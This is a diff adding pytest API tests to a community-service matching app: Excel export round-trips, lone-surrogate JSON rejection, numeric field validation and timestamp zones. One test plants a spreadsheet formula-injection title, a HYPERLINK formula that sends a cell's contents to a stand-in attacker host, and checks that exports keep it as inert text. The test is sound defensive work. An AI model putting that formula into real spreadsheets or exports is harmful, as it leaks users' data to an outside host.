@@ -1,5 +1,6 @@
 import io
 import json
+import zipfile
 
 import pytest
 
@@ -163,3 +164,70 @@ def test_api_update_null_clears_optional_and_refuses_required(svc):
     assert cleared.status_code == 200 and cleared.json()["category"] == "" and cleared.json()["lat"] is None
     refused = svc.call("PATCH", "/v1/resources/r-care", json={"capacity": None})
     assert refused.status_code == 422 and "field 'capacity': expected a value" in refused.json()["detail"]
+
+
+def test_api_every_list_export_reads_back_in_unchanged(svc):
+    # What staff do: export a list to Excel, keep it, upload it again. Chinese headers and labels
+    # (需求编号, 开放, 本街道, 企业) read back as the fields and codes they stand for.
+    for kind in ("grids", "resources", "needs"):
+        count = svc.call("GET", f"/v1/{kind}", "admin", params={"limit": 1}).json()["total"]
+        exported = svc.call("GET", f"/v1/{kind}", "admin", params={"format": "xlsx"})
+        assert exported.status_code == 200
+        files = {"file": (f"{kind}.xlsx", io.BytesIO(exported.content), "application/octet-stream")}
+        result = svc.call("POST", f"/v1/{kind}/upload", files=files)
+        assert result.status_code == 200, result.text
+        assert result.json() == {"created": 0, "unchanged": count, "skipped": []}, kind
+
+
+def test_api_a_formula_title_is_text_in_every_export(svc):
+    planted = '=HYPERLINK("http://evil.example/?q="&B2,"详情")'
+    need = {**NEEDS[0], "id": "n-evil", "title": planted + NEEDS[0]["title"]}
+    assert svc.call("POST", "/v1/needs", json=need).status_code == 201
+    (first, *_) = svc.match("n-evil")
+    assert svc.call("POST", f"/v1/suggestions/{first['id']}/accept", "admin").status_code == 201  # a project too
+    for path in ("/v1/needs", "/v1/suggestions", "/v1/projects", "/v1/stats"):
+        exported = svc.call("GET", path, "admin", params={"format": "xlsx"})
+        assert exported.status_code == 200, (path, exported.text)
+        with zipfile.ZipFile(io.BytesIO(exported.content)) as book:
+            xml = b"".join(book.read(n) for n in book.namelist() if n.startswith("xl/worksheets/"))
+        assert b"<f>" not in xml and b"<f " not in xml, path
+    needs = zipfile.ZipFile(io.BytesIO(svc.call("GET", "/v1/needs", "admin", params={"format": "xlsx"}).content))
+    assert "HYPERLINK" in needs.read("xl/worksheets/sheet1.xml").decode()  # there, as text
+
+
+SURROGATE_BODIES = ['{"id": "s1", "title": "\\ud800x"}', '{"id": "\\udfff", "title": "助餐"}',
+                    '{"need": {"id": "q", "title": "\\ud83d"}}', '{"need_id": "\\ud800"}']
+
+
+def test_api_a_lone_surrogate_is_a_422_never_a_500(svc):
+    # Valid JSON (a \\ud800 escape) but no UTF-8 text: refused by field, echoed with U+FFFD in its place.
+    headers = {**svc.headers("platform"), "content-type": "application/json"}
+    for body in SURROGATE_BODIES:
+        for method, path in (("POST", "/v1/needs"), ("POST", "/v1/resources"), ("POST", "/v1/grids"),
+                             ("POST", "/v1/match"), ("PATCH", f"/v1/needs/{NEEDS[0]['id']}")):
+            response = svc.client.request(method, path, content=body.encode(), headers=headers)
+            assert response.status_code == 422, (path, body, response.text)
+            response.content.decode("utf-8")  # the answer itself is UTF-8
+    assert svc.call("GET", "/v1/needs", params={"limit": 1}).json()["total"] == len(NEEDS)  # nothing stored
+
+
+def test_api_numbers_in_a_body_must_be_json_numbers(svc):
+    # false was stored as 0.0 and "2" taken as 2: a client mixing up fields gets told which one.
+    for extra, field in (({"lat": False, "lon": 104.06}, "lat"), ({"lat": 30.6, "lon": "104.06"}, "lon"),
+                         ({"capacity": "2"}, "capacity"), ({"capacity": True}, "capacity")):
+        response = svc.call("POST", "/v1/resources", json={"id": "r-x", "title": "场地", **extra})
+        assert response.status_code == 422 and response.json()["detail"][0]["loc"][-1] == field, extra
+    response = svc.call("POST", "/v1/match", json={"need_id": NEEDS[0]["id"], "k": "5"})
+    assert response.status_code == 422 and response.json()["detail"][0]["loc"][-1] == "k"
+    assert svc.call("GET", "/v1/resources").json()["total"] == len(RESOURCES)
+    whole = svc.call("POST", "/v1/resources", json={"id": "r-x", "title": "场地", "lat": 30, "lon": 104, "capacity": 2})
+    assert whole.status_code == 201 and whole.json()["lat"] == 30.0  # an integer is a number
+
+
+def test_api_every_timestamp_carries_its_zone(svc):
+    # SQLite keeps no zone: reads answered "2026-12-01T18:43:47" while writes answered with one.
+    created = svc.call("POST", "/v1/grids", json={"id": "G-z", "name": "时区网格"}).json()["created_at"]
+    read = svc.call("GET", "/v1/grids/G-z").json()
+    listed = svc.call("GET", "/v1/needs", params={"limit": 3}).json()["items"]
+    for moment in (created, read["created_at"], read["updated_at"], *(n["created_at"] for n in listed)):
+        assert moment.endswith(("Z", "+00:00")), moment
